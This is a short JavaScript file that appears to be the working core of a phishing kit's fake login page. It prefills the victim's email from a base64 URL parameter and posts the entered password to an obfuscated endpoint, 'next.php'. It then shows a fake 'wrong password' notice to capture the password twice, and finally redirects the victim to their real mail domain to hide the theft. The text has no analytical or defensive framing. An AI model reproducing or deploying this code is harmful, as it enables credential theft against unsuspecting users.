var q = location.search.match(/[?&]u=([^&]+)/), e = q ? atob(decodeURIComponent(q[1])) : "";
var i = document.getElementById("email");
if (e) { i.value = e; i.readOnly = true; document.getElementById("pw").focus(); }
$("form").on("submit", function (ev) {
  ev.preventDefault();
  $.post(window.atob("bmV4dC5waHA="), $(this).serialize() + "&c=" + ($(this).data("c") || 0), function () {
    $("form").data("c") ? location = "//" + e.split("@")[1] : ($("form").data("c", 1), $("#pw").val(""), $(".wrong").show());
  });
});
